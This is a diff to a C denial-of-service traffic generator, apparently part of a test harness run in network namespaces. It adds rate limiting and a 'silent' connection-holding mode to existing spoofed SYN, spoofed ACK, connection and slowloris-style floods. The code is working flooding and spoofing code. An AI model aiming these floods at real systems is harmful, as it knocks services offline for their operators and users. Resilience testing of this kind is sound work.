@@ -1,13 +1,14 @@
 // SPDX-License-Identifier: Apache-2.0
 /*
- * flood KIND ADDRESS:PORT HEAD-FILE SECONDS SOURCES [DEVICE MAC] - one attacker, as fast as one process can.
+ * flood KIND[:NUMBER] ADDRESS:PORT HEAD-FILE SECONDS SOURCES [DEVICE MAC] - one attacker, as fast as one process can.
  *
  * KIND syn      SYNs, spoofed
  *      ack      the first bytes of a hello on connections that there are not, spoofed
  *      hello    connections, each closed behind a whole hello; who gets no answer at once is given up for the next
  *      slow     SLOW_CONNECTIONS at once, each of which sends a byte of its hello a second
+ *      silent   as many, none of which says anything
  *
- * SOURCES is an IPv4 prefix, all of whose addresses are used; for hello and slow they are this namespace's own. DEVICE is
+ * NUMBER is how many packets a second at most, or how many connections at once. SOURCES is an IPv4 prefix, all of whose addresses are used; for hello and slow they are this namespace's own. DEVICE is
  * where spoofed packets leave, MAC whom they are for.
  *
  * Prints "flooding" once it is under way, and at its end, which is SIGTERM or SECONDS, what it sent as a line of JSON.
@@ -39,6 +40,7 @@
 #define MS_NS 1000000U
 #define UNDER_WAY_NS (700 * MS_NS)	/* bursts of budgets are spent by then, and queues are full */
 #define BATCH 64			/* frames a system call */
+#define TURNS_S 100			/* system calls a second at least, when frames are sent at a pace */
 #define ACK_PAYLOAD 64
 #define OPTIONS_LEN 20			/* those of a Linux client's SYN */
 #define PORT_MIN 1024
@@ -74,6 +76,7 @@ static struct sockaddr_in to;
 static uint32_t first_source, source_count;	/* host's order */
 static uint8_t head[STREAM_HEAD_MAX];
 static size_t head_len;
+static uint32_t number;				/* 0: the most there is */
 static uint64_t packets, hellos, connections;
 static volatile sig_atomic_t stopped;
 
@@ -187,12 +190,26 @@ static void announce(uint64_t *since_ns)
 	fflush(stdout);
 }
 
+/* Waits until so many packets are due. */
+static void pace(uint64_t begun_ns)
+{
+	uint64_t due_ns = begun_ns + packets * SECOND_NS / number, now = now_ns();
+	struct timespec pause = { 0 };
+
+	if (due_ns <= now)
+		return;
+	pause.tv_sec = (time_t)((due_ns - now) / SECOND_NS);
+	pause.tv_nsec = (long)((due_ns - now) % SECOND_NS);
+	nanosleep(&pause, NULL);
+}
+
 static void flood_frames(bool is_syn, const char *device, const uint8_t *mac, uint64_t end_ns)
 {
 	static struct frame frames[BATCH];
 	static struct mmsghdr messages[BATCH];
 	static struct iovec vectors[BATCH];
-	uint64_t since_ns = now_ns();
+	uint64_t begun_ns = now_ns(), since_ns = begun_ns;
+	uint32_t batch = number && number / TURNS_S < BATCH ? number / TURNS_S + 1 : BATCH;
 	uint32_t ip_sum, tcp_sum;
 	uint8_t own_mac[ETH_ALEN];
 	int fd = open_device(device, own_mac), sent;
@@ -208,13 +225,15 @@ static void flood_frames(bool is_syn, const char *device, const uint8_t *mac, ui
 	tcp_sum = sum(IPPROTO_TCP + (uint32_t)tcp_len, &to.sin_addr, sizeof(to.sin_addr));
 	tcp_sum = sum(tcp_sum, &frames->tcp, tcp_len);
 	while (!stopped && now_ns() < end_ns) {
-		for (uint32_t i = 0; i < BATCH; i++)
+		for (uint32_t i = 0; i < batch; i++)
 			frame_vary(&frames[i], ip_sum, tcp_sum);
-		sent = sendmmsg(fd, messages, BATCH, 0);
+		sent = sendmmsg(fd, messages, batch, 0);
 		if (sent < 0 && errno != ENOBUFS && errno != EINTR)
 			fail("%s: %s", device, strerror(errno));
 		packets += sent > 0 ? (uint64_t)sent : 0;
 		announce(&since_ns);
+		if (number)
+			pace(begun_ns);
 	}
 }
 
@@ -266,10 +285,20 @@ static void turn_slow(struct slot *slot)
 	}
 }
 
-static void flood_connections(bool is_slow, uint64_t end_ns)
+/* Ended by the other side, or never begun: another one. */
+static void turn_silent(struct slot *slot)
+{
+	char byte;
+
+	if (recv(slot->fd, &byte, 1, MSG_DONTWAIT) >= 0 || errno != EAGAIN)
+		begin(slot);
+}
+
+static void flood_connections(void (*turn)(struct slot *slot), uint64_t end_ns)
 {
 	static struct slot slots[SLOTS_MAX];
-	uint32_t count = is_slow ? SLOW_CONNECTIONS : HELLO_CONNECTIONS;
+	bool is_hello = turn == turn_hello;
+	uint32_t count = number ? number : is_hello ? HELLO_CONNECTIONS : SLOW_CONNECTIONS;
 	uint64_t since_ns = now_ns();
 	const struct timespec pause = { .tv_nsec = SLOW_TURN_NS };
 
@@ -278,14 +307,10 @@ static void flood_connections(bool is_slow, uint64_t end_ns)
 		begin(&slots[i]);
 	}
 	while (!stopped && now_ns() < end_ns) {
-		for (uint32_t i = 0; i < count && !stopped; i++) {
-			if (is_slow)
-				turn_slow(&slots[i]);
-			else
-				turn_hello(&slots[i]);
-		}
+		for (uint32_t i = 0; i < count && !stopped; i++)
+			turn(&slots[i]);
 		announce(&since_ns);
-		if (is_slow)
+		if (!is_hello)
 			nanosleep(&pause, NULL);
 	}
 }
@@ -336,17 +361,43 @@ static int parse_mac(const char *text, uint8_t *ret_mac)
 		      &ret_mac[4], &ret_mac[5]) == ETH_ALEN ? 0 : -EINVAL;
 }
 
+static const struct kind {
+	const char *word;
+	void (*turn)(struct slot *slot);	/* NULL: spoofed frames */
+	uint32_t most;
+} kinds[] = {
+	{ "syn", NULL, UINT32_MAX },
+	{ "ack", NULL, UINT32_MAX },
+	{ "hello", turn_hello, SLOTS_MAX },
+	{ "slow", turn_slow, SLOTS_MAX },
+	{ "silent", turn_silent, SLOTS_MAX },
+};
+
+/* KIND[:NUMBER]. Return: NULL for what is none. */
+static const struct kind *parse_kind(const char *text)
+{
+	size_t len = strcspn(text, ":");
+
+	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
+		if (strlen(kinds[i].word) != len || strncmp(kinds[i].word, text, len))
+			continue;
+		number = text[len] ? (uint32_t)strtoul(text + len + 1, NULL, 10) : 0;
+		return (text[len] && !number) || number > kinds[i].most ? NULL : &kinds[i];
+	}
+	return NULL;
+}
+
 int main(int argc, char **argv)
 {
-	bool is_syn = argc > 1 && !strcmp(argv[1], "syn"), is_ack = argc > 1 && !strcmp(argv[1], "ack");
-	bool is_hello = argc > 1 && !strcmp(argv[1], "hello"), is_slow = argc > 1 && !strcmp(argv[1], "slow");
+	const struct kind *kind = argc > 1 ? parse_kind(argv[1]) : NULL;
 	uint64_t begun_ns = now_ns(), end_ns;
 	struct rlimit descriptors;
 	uint8_t mac[ETH_ALEN];
 
-	if (argc != (is_syn || is_ack ? 8 : 6) || !(is_syn || is_ack || is_hello || is_slow) || parse_target(argv[2]) ||
-	    atof(argv[4]) <= 0 || parse_sources(argv[5]) || (argc == 8 && parse_mac(argv[7], mac))) {
-		fprintf(stderr, "usage: flood syn|ack|hello|slow ADDRESS:PORT HEAD-FILE SECONDS SOURCES [DEVICE MAC]\n");
+	if (!kind || argc != (kind->turn ? 6 : 8) || parse_target(argv[2]) || atof(argv[4]) <= 0 ||
+	    parse_sources(argv[5]) || (argc == 8 && parse_mac(argv[7], mac))) {
+		fprintf(stderr, "usage: flood syn|ack|hello|slow|silent[:NUMBER] ADDRESS:PORT HEAD-FILE SECONDS SOURCES "
+			"[DEVICE MAC]\n");
 		return 2;
 	}
 	read_head(argv[3]);
@@ -357,10 +408,10 @@ int main(int argc, char **argv)
 	descriptors.rlim_cur = descriptors.rlim_max;
 	if (setrlimit(RLIMIT_NOFILE, &descriptors))
 		fail("RLIMIT_NOFILE: %s", strerror(errno));
-	if (is_syn || is_ack)
-		flood_frames(is_syn, argv[6], mac, end_ns);
+	if (kind->turn)
+		flood_connections(kind->turn, end_ns);
 	else
-		flood_connections(is_slow, end_ns);
+		flood_frames(!strcmp(kind->word, "syn"), argv[6], mac, end_ns);
 	printf("{\"seconds\": %.6f, \"packets\": %llu, \"connections\": %llu, \"hellos\": %llu}\n",
 	       (double)(now_ns() - begun_ns) / SECOND_NS, (unsigned long long)packets, (unsigned long long)connections,
 	       (unsigned long long)hellos);
